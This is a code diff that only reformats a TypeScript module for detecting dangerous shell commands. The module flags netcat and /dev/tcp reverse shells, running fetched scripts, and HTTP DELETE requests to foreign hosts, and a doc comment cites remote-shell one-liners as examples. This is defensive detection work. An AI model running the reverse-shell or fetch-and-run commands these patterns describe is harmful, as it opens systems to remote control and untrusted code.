@@ -32,8 +32,7 @@ export function runsFetched(steps: readonly ShellStep[]): boolean {
 
 /** A shell that somebody else can type into: `nc HOST PORT -e sh`, `bash >& /dev/tcp/…`. */
 function opensShell({ program, args, redirects }: ShellStep): boolean {
-  if (/^(?:nc|ncat|netcat)$/.test(program))
-    return args.some((arg) => /^(?:-\w*[ec]|--(?:sh-)?exec)$/.test(arg))
+  if (/^(?:nc|ncat|netcat)$/.test(program)) return args.some((arg) => /^(?:-\w*[ec]|--(?:sh-)?exec)$/.test(arg))
   return SHELLS.test(program) && redirects.some(({ text }) => /^\/dev\/(?:tcp|udp)\//.test(text))
 }
 
@@ -57,9 +56,7 @@ export function runsFetchedInPowerShell(text: string): boolean {
 function comesFromNetwork(reader: ShellStep | undefined): boolean {
   let step = reader
   while (step !== undefined && PASSES_ON.test(step.program)) step = step.feeder
-  return (
-    step !== undefined && FETCHES.test(step.program) && !(step.program === 'gh' && step.args[0] !== 'api')
-  )
+  return step !== undefined && FETCHES.test(step.program) && !(step.program === 'gh' && step.args[0] !== 'api')
 }
 
 /** `sh install.sh` runs that file, whatever comes in. */
@@ -79,10 +76,7 @@ function readsInput(args: readonly string[]): boolean {
 function fetchedInto({ program, args, redirects }: ShellStep): string[] {
   if (!/^(?:curl|wget|aria2c|http|iwr|invoke-webrequest|fetch)$/.test(program)) return []
   const named = args.flatMap((arg, at) => {
-    if (
-      /^(?:-o|-O|--output|--output-document|-outfile)$/i.test(args[at - 1] ?? '') &&
-      !/^https?:|^-/.test(arg)
-    )
+    if (/^(?:-o|-O|--output|--output-document|-outfile)$/i.test(args[at - 1] ?? '') && !/^https?:|^-/.test(arg))
       return [arg]
     const attached = /^(?:--output(?:-document)?=|-o|-O)(.+)$/.exec(arg)?.[1]
     return attached === undefined ? [] : [attached]
@@ -118,11 +112,9 @@ export function deletesElsewhere({ program, args }: ShellStep): boolean {
   const isDelete = args.some(
     (arg, at) =>
       /^(?:-\w*X|--request=|--method=)DELETE$/i.test(arg) ||
-      (/^delete$/i.test(arg) &&
-        (at === 0 ? program !== 'curl' : /^-\w*X$|^--(?:request|method)$/.test(args[at - 1]!))),
+      (/^delete$/i.test(arg) && (at === 0 ? program !== 'curl' : /^-\w*X$|^--(?:request|method)$/.test(args[at - 1]!))),
   )
   return (
-    isDelete &&
-    args.some((arg) => /[./]/.test(arg) && /^(?:https?:\/\/|[\w-]+[.:])/i.test(arg) && !OWN_HOST.test(arg))
+    isDelete && args.some((arg) => /[./]/.test(arg) && /^(?:https?:\/\/|[\w-]+[.:])/i.test(arg) && !OWN_HOST.test(arg))
   )
 }
